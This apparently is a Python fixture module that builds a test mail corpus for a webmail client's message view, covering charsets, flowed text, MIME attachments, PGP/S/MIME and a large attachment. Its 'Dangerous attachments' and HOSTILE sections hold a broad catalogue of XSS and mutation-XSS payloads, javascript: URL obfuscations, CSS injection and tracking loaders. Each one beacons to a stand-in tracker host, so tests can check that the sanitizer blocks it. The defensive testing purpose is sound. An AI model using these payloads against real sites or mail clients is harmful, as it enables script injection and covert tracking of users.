r"""The reading corpus: the INBOX of corpus@posta.test (password corpus-pass).

One message per case the message view must get right, from a 1998 KOI8-R letter to hostile
HTML. Imported by seed_mail.py; deterministic (same bytes every run). Tests find a message
by its Subject, which is always plain ASCII and unique.

Remote resources all live on http://tracker.posta.test/ — a name that resolves nowhere; the
browser tests map it to a local HTTP server that records every request:
  /r/<name>   remote content: must not be requested before the person consents, and the
              images among them are requested after consent;
  /x/<name>   only requested if something hostile worked (a script ran, a meta refresh or
              frame navigated, a form submitted): must never be requested at all.

| Subject                        | what it is                                                |
|--------------------------------|-----------------------------------------------------------|
| Charset <label>                | text/plain in that charset, From name RFC 2047 in it too  |
| Flowed text                    | format=flowed with soft breaks and a quoted paragraph     |
| Flowed delsp                   | format=flowed; delsp=yes (CJK-style soft breaks)          |
| Plain text that looks like HTML| <b>…</b> and <script> as text                             |
| Newsletter with remote content | alternative: plain + table layout HTML with every loader  |
| Inline image by cid            | related: HTML + cid: PNG                                  |
| Attachments of every kind      | mixed: pdf, png, ics, RFC 2231 / RFC 2047 names           |
| Forwarded message              | mixed: text + message/rfc822 (alternative + attachment)   |
| Signed with PGP                | multipart/signed + application/pgp-signature              |
| Encrypted with PGP             | multipart/encrypted                                       |
| Signed with S/MIME             | multipart/signed + application/pkcs7-signature            |
| Dangerous attachments          | text/html and image/svg+xml attachments with scripts      |

The INBOX of bigmail@posta.test (password bigmail-pass) holds one message, big_message():
"Big message with 10 MB attachment", text + 10 MiB application/octet-stream big.bin (bytes
from random.Random(20240101)); a user of its own, so a test can count every byte Dovecot
sends for it.
| Hostile <n>: <what>            | HTML-only hostile mail, see HOSTILE below                 |
"""

import base64
import random
import struct
import zlib

PANGRAM_RU = "Съешь же ещё этих мягких французских булок, да выпей же чаю."
TRACKER = "http://tracker.posta.test"
BIG_ATTACHMENT_BYTES = 10 * 1024 * 1024


def b_word(text, charset, codec):
    return f"=?{charset}?B?{base64.b64encode(text.encode(codec)).decode()}?="


def b64_lines(data):
    enc = base64.b64encode(data)
    return b"\n".join(enc[i:i + 76] for i in range(0, len(enc), 76))


def png(width, height, rgb):
    """A tiny solid-colour PNG."""
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    row = b"\x00" + bytes(rgb) * width
    return (b"\x89PNG\r\n\x1a\n"
            + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(row * height))
            + chunk(b"IEND", b""))


def head(subject, pairs=(), sender="Corpus <corpus-sender@example.org>"):
    """Top-level headers; with sender=None the caller's pairs carry the From."""
    lines = ([("From", sender)] if sender else []) + [("Subject", subject), ("MIME-Version", "1.0"), *pairs]
    return "".join(f"{k}: {v}\n" for k, v in lines).encode()


def part(headers, body):
    return "".join(f"{k}: {v}\n" for k, v in headers).encode() + b"\n" + body


def multipart(kind, boundary, parts, extra=""):
    out = [f"Content-Type: multipart/{kind}; boundary=\"{boundary}\"{extra}\n\n".encode(),
           b"This is a multi-part message in MIME format.\n"]
    for p in parts:
        out.append(f"\n--{boundary}\n".encode() + p)
    out.append(f"\n--{boundary}--\n".encode())
    return b"".join(out)


def text_part(text, charset="utf-8", cte="8bit", extra=""):
    return part([("Content-Type", f"text/plain; charset={charset}{extra}"),
                 ("Content-Transfer-Encoding", cte)], text.encode(charset) if cte != "base64"
                else b64_lines(text.encode(charset)))


def html_part(html):
    return part([("Content-Type", "text/html; charset=utf-8"),
                 ("Content-Transfer-Encoding", "8bit")], html.encode())


def attachment(mime, filename_params, data, disposition="attachment", extra_headers=()):
    return part([("Content-Type", f"{mime}{filename_params[0]}"),
                 ("Content-Disposition", f"{disposition}{filename_params[1]}"),
                 ("Content-Transfer-Encoding", "base64"), *extra_headers], b64_lines(data))


# ----------------------------------------------------------------------------- charsets

# (label as sent, python codec, sample text the charset can encode, From name)
CHARSETS = [
    ("windows-1251", "cp1251", PANGRAM_RU, "Пётр Чайковский"),
    ("ISO-8859-5", "iso8859_5", PANGRAM_RU, "Анна Ахматова"),
    ("CP866", "cp866", PANGRAM_RU, "Дмитрий Менделеев"),
    ("KOI8-R", "koi8_r", PANGRAM_RU, "Лев Толстой"),
    ("ISO-8859-1", "latin-1", "Größe, Ärger und Façade: déjà vu für Jürgen.", "Jürgen Weiß"),
    ("GB2312", "gb2312", "我能吞下玻璃而不伤身体。", "王小明"),
    ("Shift_JIS", "shift_jis", "私はガラスを食べられます。それは私を傷つけません。", "山田太郎"),
    ("ISO-2022-JP", "iso2022_jp", "私はガラスを食べられます。それは私を傷つけません。", "鈴木一郎"),
    ("Big5", "big5", "我能吞下玻璃而不傷身體。", "陳大文"),
]


def charset_message(label, codec, sample, name):
    body = f"{sample}\n\nCharset check: {label}.\n".encode(codec)
    cte = "7bit" if label.upper().startswith("ISO-2022") else "8bit"
    return head(f"Charset {label}", [
        ("From", f"{b_word(name, label, codec)} <sender@example.org>"),
        ("Content-Type", f"text/plain; charset={label}"),
        ("Content-Transfer-Encoding", cte)], sender=None) + b"\n" + body


def odd_charset_messages():
    text = f"{PANGRAM_RU}\n\nThe label on this part is wrong or missing.\n"
    yield head("Charset unknown label", [("Content-Type", "text/plain; charset=x-no-such-charset"),
                                         ("Content-Transfer-Encoding", "8bit")]) + b"\n" + text.encode("cp1251")
    yield head("Charset lying UTF-8", [("Content-Type", "text/plain; charset=utf-8"),
                                       ("Content-Transfer-Encoding", "8bit")]) + b"\n" + text.encode("cp1251")
    yield head("Charset missing", [("Content-Type", "text/plain"),
                                   ("Content-Transfer-Encoding", "8bit")]) + b"\n" + text.encode("koi8_r")


# ----------------------------------------------------------------------------- text

def flowed_messages():
    flowed = ("This paragraph was written as one long line and wrapped by the sender's \n"
              "mail client at seventy-odd characters, so each soft break ends in a \n"
              "space.\n"
              "\n"
              "> A quoted paragraph that was also \n"
              "> wrapped softly by the client.\n"
              "\n"
              " >This line is space-stuffed and is not a quote.\n"
              "\n"
              "-- \n"
              "Signature\n")
    yield head("Flowed text", [("Content-Type", "text/plain; charset=utf-8; format=flowed"),
                               ("Content-Transfer-Encoding", "8bit")]) + b"\n" + flowed.encode()
    delsp = "日本語の文章は空白なしで \n続きます。\n"
    yield head("Flowed delsp", [("Content-Type", "text/plain; charset=utf-8; format=flowed; delsp=yes"),
                                ("Content-Transfer-Encoding", "8bit")]) + b"\n" + delsp.encode()
    looks = "This is <b>not bold</b> and <script>alert(1)</script> is just text.\n> quoted & escaped\n"
    yield head("Plain text that looks like HTML", [("Content-Type", "text/plain; charset=utf-8"),
                                                   ("Content-Transfer-Encoding", "8bit")]) + b"\n" + looks.encode()


# ----------------------------------------------------------------------------- HTML

NEWSLETTER_HTML = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Rust Weekly</title>
<link rel="stylesheet" href="{TRACKER}/r/link.css">
<style>
@import url("{TRACKER}/r/import.css");
@font-face {{ font-family: "Brand"; src: url("{TRACKER}/r/font.woff2") format("woff2"); }}
.brand {{ font-family: "Brand", sans-serif; color: #b7410e; }}
.hero {{ background-image: url("{TRACKER}/r/css-bg.png"); padding: 12px; }}
table.main {{ width: 600px; border-collapse: collapse; }}
td.cell {{ padding: 8px; border: 1px solid #ddd; }}
</style></head>
<body style="margin:0; background-color:#f4f4f4">
<table class="main" width="600" align="center" cellpadding="0" cellspacing="0" bgcolor="#ffffff">
<tr><td class="hero brand" style="font-size:24px; background-image:url('{TRACKER}/r/style-bg.png')">Rust Weekly #500</td></tr>
<tr><td class="cell" background="{TRACKER}/r/td-background.png">
<h1 style="font-size:20px; color:#333333">This week in Rust</h1>
<img src="{TRACKER}/r/hero.png" width="560" height="200" alt="Hero image">
<p>Read <a href="https://example.org/article">the article</a> online.</p>
<img src="{TRACKER}/r/srcset-1x.png" srcset="{TRACKER}/r/srcset-2x.png 2x" alt="srcset">
<picture><source srcset="{TRACKER}/r/picture.webp" type="image/webp"><img src="{TRACKER}/r/picture.png" alt="picture"></picture>
<video poster="{TRACKER}/r/poster.png" width="10" height="10"></video>
</td></tr>
<tr><td class="cell" align="center"><font color="#888888" size="2">You receive this because you subscribed.</font></td></tr>
</table>
<img src="{TRACKER}/r/pixel.gif" width="1" height="1" alt="">
</body></html>
"""


def newsletter():
    plain = "Rust Weekly #500\n\nThis week in Rust: read the article at https://example.org/article\n"
    return head("Newsletter with remote content", sender="Rust Weekly <newsletter@rust-weekly.example>") + \
        multipart("alternative", "=_nl", [text_part(plain), html_part(NEWSLETTER_HTML)])


LOGO = png(24, 12, (183, 65, 14))


def inline_image():
    html = ('<html><body><p>Our logo:</p><img src="cid:logo@posta.test" alt="Logo" width="24" height="12">'
            '<p>And a missing one: <img src="cid:missing@posta.test" alt="missing"></p></body></html>')
    img = part([("Content-Type", "image/png; name=\"logo.png\""), ("Content-ID", "<logo@posta.test>"),
                ("Content-Disposition", "inline; filename=\"logo.png\""),
                ("Content-Transfer-Encoding", "base64")], b64_lines(LOGO))
    return head("Inline image by cid") + multipart("related", "=_rel", [html_part(html), img],
                                                   extra="; type=\"text/html\"")


def pct(text):
    return "".join(c if c.isascii() and c.isalnum() else "".join(f"%{b:02X}" for b in c.encode("utf-8"))
                   for c in text)


def attachments():
    pdf = b"%PDF-1.4\n% corpus\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    ics = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Posta//Corpus//EN\r\nMETHOD:REQUEST\r\n"
           "BEGIN:VEVENT\r\nUID:corpus-1@posta.test\r\nDTSTART:20250101T100000Z\r\n"
           "DTEND:20250101T110000Z\r\nSUMMARY:Planning\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n").encode()
    koi = "Протокол совещания.txt".encode("koi8_r")
    koi_pct = "".join(f"%{b:02X}" if b > 127 or b in b" %'*" else chr(b) for b in koi)
    half = len(koi_pct) // 2
    while koi_pct[half - 1] == "%" or (half > 1 and koi_pct[half - 2] == "%"):
        half -= 1
    parts = [
        text_part("Five attachments follow.\n"),
        attachment("application/pdf", ('; name="report.pdf"', '; filename="report.pdf"'), pdf),
        attachment("image/png", ('; name="photo.png"', '; filename="photo.png"'), png(40, 30, (20, 120, 200))),
        part([("Content-Type", "text/calendar; charset=utf-8; method=REQUEST"),
              ("Content-Transfer-Encoding", "8bit")], ics),
        attachment("application/pdf", ("", f"; filename*=utf-8''{pct('Отчёт за квартал.pdf')}"), pdf),
        attachment("text/plain", ("", f"; filename*0*=koi8-r''{koi_pct[:half]}; filename*1*={koi_pct[half:]}"),
                   "Протокол".encode("koi8_r")),
        attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                   (f'; name="{b_word("Договор.docx", "UTF-8", "utf-8")}"', ""), b"PK\x03\x04 corpus docx"),
        attachment("application/octet-stream",
                   (f'; name="{b_word("Счёт №5.xls", "windows-1251", "cp1251")}"', ""),
                   b"\xd0\xcf\x11\xe0 corpus xls"),
    ]
    return head("Attachments of every kind") + multipart("mixed", "=_att", parts)


def forwarded():
    inner = (b"From: Original Sender <original@example.org>\nTo: corpus@posta.test\n"
             b"Date: Tue, 02 Jan 2024 10:00:00 +0000\n"
             b"Subject: =?UTF-8?B?" + base64.b64encode("Исходное письмо".encode()) + b"?=\n"
             b"Message-ID: <original-1@example.org>\nMIME-Version: 1.0\n"
             + multipart("mixed", "=_inner", [
                 multipart("alternative", "=_inner_alt", [
                     text_part("The original plain text.\n"),
                     html_part("<p>The <b>original</b> HTML text.</p>")]),
                 attachment("text/plain", ('; name="notes.txt"', '; filename="notes.txt"'), b"inner notes\n")]))
    parts = [text_part("See the message below.\n"),
             part([("Content-Type", "message/rfc822"), ("Content-Disposition", "inline")], inner)]
    return head("Forwarded message") + multipart("mixed", "=_fwd", parts)


def signed_and_encrypted():
    sig = b"-----BEGIN PGP SIGNATURE-----\n\niQEzBAEBCAAdFiEE\n=abcd\n-----END PGP SIGNATURE-----\n"
    yield head("Signed with PGP") + multipart("signed", "=_sig", [
        text_part("This text is signed.\n", cte="7bit"),
        part([("Content-Type", "application/pgp-signature; name=\"signature.asc\""),
              ("Content-Disposition", "attachment; filename=\"signature.asc\"")], sig)],
        extra="; micalg=pgp-sha256; protocol=\"application/pgp-signature\"")
    armored = b"-----BEGIN PGP MESSAGE-----\n\nhQEMA1234\n=wxyz\n-----END PGP MESSAGE-----\n"
    yield head("Encrypted with PGP") + multipart("encrypted", "=_enc", [
        part([("Content-Type", "application/pgp-encrypted")], b"Version: 1\n"),
        part([("Content-Type", "application/octet-stream; name=\"encrypted.asc\""),
              ("Content-Disposition", "inline; filename=\"encrypted.asc\"")], armored)],
        extra="; protocol=\"application/pgp-encrypted\"")
    yield head("Signed with S/MIME") + multipart("signed", "=_smime", [
        text_part("This text carries an S/MIME signature.\n", cte="7bit"),
        attachment("application/pkcs7-signature", ('; name="smime.p7s"', '; filename="smime.p7s"'),
                   b"\x30\x82\x01\x00 corpus signature")],
        extra="; micalg=sha-256; protocol=\"application/pkcs7-signature\"")


def dangerous_attachments():
    page = f"<html><body><script>new Image().src='{TRACKER}/x/html-attachment'</script>page</body></html>"
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
           f'onload="new Image().src=\'{TRACKER}/x/svg-onload\'">'
           f"<script>new Image().src='{TRACKER}/x/svg-attachment'</script></svg>")
    return head("Dangerous attachments") + multipart("mixed", "=_dang", [
        text_part("An HTML page and an SVG drawing are attached.\n"),
        attachment("text/html", ('; name="page.html"', '; filename="page.html"'), page.encode()),
        attachment("image/svg+xml", ('; name="drawing.svg"', '; filename="drawing.svg"'), svg.encode(),
                   disposition="inline")])


def big_attachment():
    """big.bin: 10 MiB that do not compress, the same every run."""
    return random.Random(20240101).randbytes(BIG_ATTACHMENT_BYTES)


def big_message():
    data = big_attachment()
    return head("Big message with 10 MB attachment") + multipart("mixed", "=_big", [
        text_part("A ten megabyte file is attached.\n"),
        attachment("application/octet-stream", ('; name="big.bin"', '; filename="big.bin"'), data)])


# ----------------------------------------------------------------------------- hostile

def x(name):
    """A beacon that only a successful attack would request."""
    return f"new Image().src='{TRACKER}/x/{name}'"


HOSTILE = [
    ("scripts and event handlers", f"""
<p>Scripts and handlers.</p>
<script>{x('script')}</script>
<script src="{TRACKER}/x/script-src.js"></script>
<img src="nothing.png" onerror="{x('img-onerror')}">
<body onload="{x('body-onload')}">
<div onmouseover="{x('onmouseover')}" style="width:100%;height:50px">hover</div>
<details open ontoggle="{x('details-ontoggle')}"><summary>s</summary>d</details>
<input autofocus onfocus="{x('input-onfocus')}">
<video><source onerror="{x('source-onerror')}"></video>
<marquee onstart="{x('marquee')}">m</marquee>
"""),
    ("javascript and data URLs", f"""
<p><a id="js1" href="javascript:{x('js-href')}">plain javascript: link</a></p>
<p><a id="js2" href="jav&#x09;ascript:{x('js-tab')}">tab-obfuscated</a></p>
<p><a id="js3" href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{x('js-entities')}">entities</a></p>
<p><a id="js4" href=" JaVaScRiPt:{x('js-case')}">case</a></p>
<p><a id="data1" href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data: html</a></p>
<p><a href="vbscript:msgbox(1)">vbscript</a></p>
<iframe src="javascript:{x('iframe-js')}"></iframe>
<img src="javascript:{x('img-js')}">
"""),
    ("SVG and MathML", f"""
<p>SVG and MathML.</p>
<svg onload="{x('svg-onload')}"><script>{x('svg-script')}</script>
<image href="{TRACKER}/r/svg-image.png" width="10" height="10"/>
<a xlink:href="javascript:{x('svg-xlink')}"><text x="0" y="15">svg link</text></a>
<animate attributeName="href" values="javascript:{x('svg-animate')}"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="{x('mglyph-style')}"></style></mglyph></table></mtext></math>
<math href="javascript:{x('math-href')}">math link</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:{x('maction')}">m</maction></math>
"""),
    ("parser mutation tricks", f"""
<p>Mutation XSS.</p>
<noscript><p title="</noscript><img src=x onerror={x('noscript').replace(' ', '/')}>"></p></noscript>
<form><math><mtext></form><form><mglyph><style></math><img src onerror="{x('form-math')}">
<svg></p><style><a id="</style><img src=1 onerror={x('svg-style').replace(' ', '/')}>">
<template><img src=x onerror="{x('template')}"></template>
<xmp><img src=x onerror="{x('xmp')}"></xmp>
<textarea><img src=x onerror="{x('textarea')}"></textarea>
<!--><img src=x onerror="{x('comment')}">-->
<style><style/><img src=x onerror="{x('style-style')}">
"""),
    ("active elements and navigation", f"""
<p>Frames, objects, forms, refresh, base.</p>
<base href="{TRACKER}/x/base/">
<meta http-equiv="refresh" content="0;url={TRACKER}/x/meta-refresh">
<iframe src="{TRACKER}/x/iframe"></iframe>
<iframe srcdoc="&lt;script&gt;{x('srcdoc')}&lt;/script&gt;"></iframe>
<object data="{TRACKER}/x/object"></object>
<embed src="{TRACKER}/x/embed">
<applet code="x" codebase="{TRACKER}/x/applet"></applet>
<frameset><frame src="{TRACKER}/x/frame"></frameset>
<form action="{TRACKER}/x/form" method="post"><input name="q" value="1"><button id="submit">Submit</button></form>
<form id="f2" action="{TRACKER}/x/form-auto"></form><button form="f2" formaction="{TRACKER}/x/formaction">go</button>
<a href="relative-link.html">relative link under a hostile base</a>
<img src="relative-image.png" alt="relative image under a hostile base">
<link rel="prefetch" href="{TRACKER}/x/prefetch">
<link rel="dns-prefetch" href="{TRACKER}/x/dns">
"""),
    ("CSS attacks", f"""
<style>
@import '{TRACKER}/r/import-quoted.css';
\\40 import url({TRACKER}/r/import-escaped.css);
body {{ background: u\\72l({TRACKER}/r/escaped-url.png); }}
p.a {{ behavior: url({TRACKER}/x/behavior.htc); -moz-binding: url({TRACKER}/x/binding.xml#x); }}
p.b {{ width: expression({x('expression')}); }}
p.c {{ background-image: url(javascript:{x('css-js-url')}); }}
</style>
<p class="a">behavior and binding</p>
<p class="b">expression</p>
<p class="c">javascript url</p>
<div style="background:url('{TRACKER}/r/style-attr.png')">style attribute url</div>
<div style="background-image: url(&quot;{TRACKER}/r/style-entity.png&quot;)">entity-quoted url</div>
<div style="width: expression({x('style-expression')})">style expression</div>
<div style="position:fixed; top:0; left:0; width:100%; height:100%; z-index:9999; background:red">overlay</div>
"""),
    ("every remote loader", f"""
<p>Every way to load something remote.</p>
<img src="{TRACKER}/r/img.png" alt="img">
<img srcset="{TRACKER}/r/srcset.png 1x" alt="srcset only">
<picture><source srcset="{TRACKER}/r/source.png"><img alt="picture"></picture>
<table background="{TRACKER}/r/table-bg.png"><tr><td background="{TRACKER}/r/td-bg.png">cell</td></tr></table>
<video poster="{TRACKER}/r/video-poster.png"></video>
<audio src="{TRACKER}/r/audio.mp3"></audio>
<input type="image" src="{TRACKER}/r/input-image.png">
<link rel="stylesheet" href="{TRACKER}/r/link-stylesheet.css">
<svg><image href="{TRACKER}/r/svg-image2.png"/></svg>
<img src="//tracker.posta.test/r/protocol-relative.png" alt="protocol relative">
<div style="background-image:url({TRACKER}/r/div-bg.png)">div background</div>
<style>@font-face {{ font-family: F; src: url({TRACKER}/r/font2.woff); }} p {{ font-family: F; }}</style>
"""),
]


def hostile_messages():
    for n, (what, body) in enumerate(HOSTILE, start=1):
        html = f"<html><head><meta charset=\"utf-8\"></head><body>{body}</body></html>\n"
        yield head(f"Hostile {n}: {what}", [("Content-Type", "text/html; charset=utf-8"),
                                            ("Content-Transfer-Encoding", "8bit")],
                   sender="Mallory <mallory@evil.example>") + b"\n" + html.encode()


def corpus():
    """Every corpus message as bytes (headers without Date/To/Message-ID, which the seeder adds)."""
    out = [charset_message(*c) for c in CHARSETS]
    out += list(odd_charset_messages())
    out += list(flowed_messages())
    out += [newsletter(), inline_image(), attachments(), forwarded()]
    out += list(signed_and_encrypted())
    out += [dangerous_attachments()]
    out += list(hostile_messages())
    return out
